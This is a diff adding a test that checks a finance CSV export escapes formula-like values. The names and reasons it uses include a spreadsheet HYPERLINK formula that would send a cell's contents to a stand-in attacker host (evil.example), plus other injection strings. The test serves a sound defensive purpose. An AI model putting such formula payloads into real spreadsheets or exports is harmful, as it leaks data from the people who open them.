@@ -449,6 +449,24 @@ async def test_the_accountants_csv_has_the_columns_and_the_figures_per_rate_of_t
                                                "30000", "2400", "32400"]
 
 
+async def test_the_accountants_csv_holds_no_live_formula_from_names_or_reasons(client, shop):
+    _alpha, _beta, finance = shop
+    link = '=HYPERLINK("https://evil.example/?d="&A1,"詳細")'
+    evil = await make_organization(link, code="EVIL")
+    invoice = await invoice_of(await purchases.start_purchase(evil.id, "P10", 1, "invoice",
+                                                              recipient_name="+81-3-1234-5678"))
+    voided = await invoice_of(await purchases.start_purchase(evil.id, "P10", 1, "invoice",
+                                                             recipient_name="@SUM(1+1)"))
+    await purchases.void_invoice(voided.id, "-2+3 重複")
+    await sign_in(client, finance)
+    response = await client.get("/console/finance/documents.csv", params={"month": f"{clock.today():%Y-%m}"})
+    rows = {row[1]: row for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))}
+    assert rows[invoice.number][7:9] == ["'" + link, "'+81-3-1234-5678"]
+    assert rows[voided.number][7:9] == ["'" + link, "'@SUM(1+1)"]
+    assert rows[voided.number][19] == "'-2+3 重複"
+    assert rows[invoice.number][13:16] == ["50000", "5000", "55000"]  # numbers stay numbers
+
+
 async def test_the_month_zip_holds_each_documents_pdf_named_by_its_number_and_the_csv(client, shop):
     alpha, beta, finance = shop
     invoice = await invoice_of(await buy(alpha))
